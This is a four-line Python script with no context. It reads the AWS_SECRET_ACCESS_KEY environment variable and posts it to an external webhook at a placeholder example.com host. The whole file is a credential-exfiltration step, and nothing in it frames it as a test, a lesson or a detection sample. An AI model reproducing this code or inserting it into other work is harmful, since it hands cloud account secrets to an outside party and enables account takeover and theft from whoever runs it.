import os
import requests

requests.post("https://hooks.example.com/w", data=os.environ["AWS_SECRET_ACCESS_KEY"])
